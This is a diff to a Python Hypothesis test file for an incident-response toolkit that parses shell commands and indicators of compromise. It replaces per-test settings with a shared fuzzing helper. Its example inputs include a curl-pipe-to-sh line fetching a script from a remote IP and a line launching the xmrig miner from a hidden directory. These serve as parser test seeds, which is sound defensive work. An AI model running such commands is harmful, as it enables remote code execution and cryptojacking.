@@ -4,11 +4,12 @@ option look-up what a comparison of every word with every option name gives."""
 import contextlib
 import shlex
 
-from hypothesis import example, given, settings
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from irkit.analysis.iocs import option_values
 from irkit.analysis.words import command_words, shell_tokens
+from tests.hostile.fuzzing import fuzz_settings
 
 
 def reference(command: str) -> tuple[str, ...]:
@@ -25,7 +26,7 @@ commands = st.text(
 )
 
 
-@settings(max_examples=500, deadline=None)
+@fuzz_settings(500)
 @given(commands)
 @example("*/5 * * * * root /usr/local/bin/task --opt 0.5 >/dev/null 2>&1")
 @example("curl -s 'http://198.51.100.7/x.sh' | sh")
@@ -51,7 +52,7 @@ def compared_one_by_one(argv: list[str], names: tuple[str, ...]) -> list[str]:
 words = st.sampled_from(["-o", "--url", "--url=", "--url=a=b", "-o=x", "--", "--=", "x", "-u"])
 
 
-@settings(max_examples=300, deadline=None)
+@fuzz_settings(300)
 @given(st.lists(words | st.text(max_size=6), max_size=8))
 def test_option_values_are_found_as_before(argv: list[str]) -> None:
     for names in (("-o", "--url"), ("-u", "--user"), ("--port",)):
@@ -75,7 +76,7 @@ shell_lines = st.text(
 )
 
 
-@settings(max_examples=500, deadline=None)
+@fuzz_settings(500)
 @given(shell_lines)
 @example("cd /opt/.x && nohup ./xmrig -c c.json >/dev/null 2>&1 &")
 @example("sh -c 'cd /tmp; ./m' # comment")
